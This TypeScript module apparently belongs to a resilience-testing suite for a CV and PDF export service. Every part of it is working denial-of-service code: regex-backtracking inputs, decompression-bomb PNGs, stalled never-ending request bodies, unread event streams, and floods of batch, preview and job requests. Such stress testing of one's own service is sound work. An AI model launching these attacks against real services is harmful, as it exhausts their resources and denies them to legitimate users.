import { crc32, deflateSync } from 'node:zlib';
import { FILE_ATTACKS } from './file-attacks.ts';
import { type Attack, call, pause, repeat } from './hostile.ts';

const SUBMITTERS = 6;
const PREVIEWERS = 30;
/** Of all users: more connections than one process can keep busy would only slow the attack. */
const STREAMS = 1_000;
const STALLED_BODIES = 600;

function submitting(documents: readonly object[]): Attack {
  let next = 0;
  const bodies = documents.map((document) => JSON.stringify({ document }));
  return (hostile) =>
    repeat(SUBMITTERS, async () => {
      const body = bodies[next++ % bodies.length] as string;
      const response = await call(hostile, '/export/pdf', { method: 'POST', body });
      await response?.arrayBuffer();
    });
}

const longest = (pattern: string, length: number) =>
  pattern.repeat(Math.ceil(length / pattern.length)).slice(0, length);

/** Texts on which a careless expression takes time by the square of their length. */
const EXPRESSIONS = [
  ' ',
  '.',
  '\n ',
  '(',
  '[](',
  '*a ',
  'a@',
  'http://a.',
  '&',
  '\u0301',
  '- ',
].flatMap((pattern) => [
  { basics: { name: 'Eve', email: `a@${longest(pattern, 190)}@` } },
  { basics: { name: 'Eve', location: { address: longest(pattern, 400) } } },
  { basics: { name: 'Eve', summary: longest(pattern, 9_900) } },
  { work: [{ name: 'x', highlights: Array.from({ length: 20 }, () => longest(pattern, 1_900)) }] },
]);

const words = (count: number, seed: number) =>
  Array.from({ length: count }, (_, index) => `word${(index * 7 + seed) % 997}`).join(' ');

/** What is as long as it may be, or longer. */
const LONG_DOCUMENTS = [
  {
    work: Array.from({ length: 95 }, () => ({
      highlights: Array.from({ length: 200 }, () => 'x'),
    })),
  },
  { work: Array.from({ length: 45 }, () => ({ summary: longest('*_', 9_900) })) },
  ...[10, 20, 30, 40, 60].map((jobs) => ({
    work: Array.from({ length: jobs }, (_, index) => ({
      name: `Employer ${index}`,
      position: 'Everything',
      startDate: '2020-01-01',
      highlights: Array.from({ length: 20 }, (_, line) => words(25, index + line)),
    })),
  })),
];

const PREVIEWED = LONG_DOCUMENTS.slice(2).map((document) => JSON.stringify({ document }));

const previews: Attack = (hostile) =>
  repeat(PREVIEWERS, async (index) => {
    const body = PREVIEWED[index % PREVIEWED.length] as string;
    const response = await call(hostile, '/export/preview', { method: 'POST', body });
    await response?.arrayBuffer();
  });

/** Event streams and waits, opened and never read. */
const streams: Attack = async (hostile) => {
  const submitted = await call(hostile, '/export/pdf', {
    method: 'POST',
    body: JSON.stringify({ document: { basics: { name: 'Eve' } } }),
  });
  const { data } = ((await submitted?.json().catch(() => null)) ?? {}) as {
    data?: { jobId: string };
  };
  const path = `/export/job/${data?.jobId ?? 'none'}`;
  await repeat(STREAMS * hostile.share, async (index) => {
    const response = await call(hostile, index % 2 === 0 ? '/export/events' : `${path}/events`);
    if (response?.status === 429) await pause(1_000);
    const reader = response?.body?.getReader();
    while (reader && !(await reader.read().catch(() => ({ done: true }))).done);
  });
};

/** Versions of stored documents, and payloads of jobs that are cancelled at once. */
const keeping: Attack = (hostile) =>
  repeat(SUBMITTERS, async (index) => {
    const data = { basics: { name: `Eve ${Math.random()}`, summary: words(1_000, index) } };
    const put = JSON.stringify({ title: 'CV', data });
    await (
      await call(hostile, `/documents/cv-${index}`, { method: 'PUT', body: put })
    )?.arrayBuffer();
    const body = JSON.stringify({ document: { ...data, 'x-filler': words(20_000, index) } });
    const response = await call(hostile, '/export/pdf', { method: 'POST', body });
    const answer = (await response?.json().catch(() => null)) as {
      data?: { jobId: string };
    } | null;
    if (!answer?.data) return;
    const removed = await call(hostile, `/export/job/${answer.data.jobId}`, { method: 'DELETE' });
    await removed?.arrayBuffer();
  });

/** Bodies of a megabyte of which the last byte never comes. */
const stalledBodies: Attack = (hostile) =>
  repeat(STALLED_BODIES * hostile.share, async () => {
    const chunk = new Uint8Array(256 * 1024).fill(32);
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 3) controller.enqueue(chunk);
        return sent > 3 ? new Promise<void>(() => undefined) : undefined;
      },
    });
    const init = { method: 'POST', body, duplex: 'half' } as RequestInit;
    await (await call(hostile, '/export/pdf', init))?.arrayBuffer();
    await pause(1_000);
  });

const photos: Attack = (hostile) =>
  submitting(
    [60, 39, 24, 12].map((megapixels) => ({
      basics: { name: 'Eve', image: onePixelWidePng(megapixels * 1_000_000) },
    })),
  )(hostile);

/** One grey picture, so that few bytes are many pixels. */
function onePixelWidePng(pixels: number): string {
  const side = Math.floor(Math.sqrt(pixels));
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8;
  const rows = deflateSync(Buffer.alloc((side + 1) * side), { level: 1 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const parts = [chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))];
  return `data:image/png;base64,${Buffer.concat([signature, ...parts]).toString('base64')}`;
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** The same by the API of the CV app, which is older. */
const cvApp: Attack = (hostile) => {
  const older = { ...hostile, api: new URL('/api', hostile.api).href };
  return repeat(SUBMITTERS, async (index) => {
    const body = CV_APP_BODIES[index % CV_APP_BODIES.length] as string;
    const response = await call(older, '/export-pdf/job', { method: 'POST', body });
    await response?.arrayBuffer();
  });
};

const CV_APP_BODIES = LONG_DOCUMENTS.slice(-3).map((cvData, index) =>
  JSON.stringify({ resumeId: index + 1, templateId: 'modern', cvData }),
);

const listing: Attack = (hostile) =>
  repeat(SUBMITTERS, async (index) => {
    const path = [
      '/export/jobs?limit=100',
      '/export/history?limit=100&includeStats=true',
      '/documents',
      '/templates',
      '/usage',
    ];
    await (await call(hostile, path[index % path.length] as string))?.arrayBuffer();
  });

/** Ten long documents at a time, and their files as one, again and again. */
const batches: Attack = (hostile) =>
  repeat(SUBMITTERS, async () => {
    const submitted = await call(hostile, '/export/batch', { method: 'POST', body: BATCH });
    const { data } = ((await submitted?.json().catch(() => null)) ?? {}) as {
      data?: { batchId: string };
    };
    if (!data) return;
    for (const path of ['', '/zip', '', '/zip']) {
      await (await call(hostile, `/export/batch/${data.batchId}${path}`))?.arrayBuffer();
    }
  });

const BATCH = JSON.stringify({
  documents: Array.from({ length: 10 }, (_, index) => ({
    document: LONG_DOCUMENTS[2 + (index % 3)],
  })),
});

/** What programs may hold, as much of it as they get. */
const coordination: Attack = (hostile) =>
  repeat(SUBMITTERS, async (index) => {
    const key = crypto.randomUUID();
    const owner = `bot-${index}`;
    const claim = JSON.stringify({ owner, ttlSeconds: 600 });
    await (
      await call(hostile, `/claims/${key}/${key}`, { method: 'PUT', body: claim })
    )?.arrayBuffer();
    const rows = JSON.stringify({ owner, key, rowCount: 1_000 });
    const path = '/ledgers/log/reservations';
    await (await call(hostile, path, { method: 'POST', body: rows }))?.arrayBuffer();
    await (await call(hostile, '/ledgers/log'))?.arrayBuffer();
  });

const each: Readonly<Record<string, Attack>> = {
  expressions: submitting(EXPRESSIONS),
  previews,
  'long documents': submitting(LONG_DOCUMENTS),
  'CV app': cvApp,
  streams,
  'kept data': keeping,
  'stalled bodies': stalledBodies,
  photos,
  listing,
  batches,
  coordination,
  ...FILE_ATTACKS,
};

export const ATTACKS: Readonly<Record<string, Attack>> = {
  ...each,
  everything: async (hostile) => {
    await Promise.all(Object.values(each).map((attack) => attack(hostile)));
  },
};
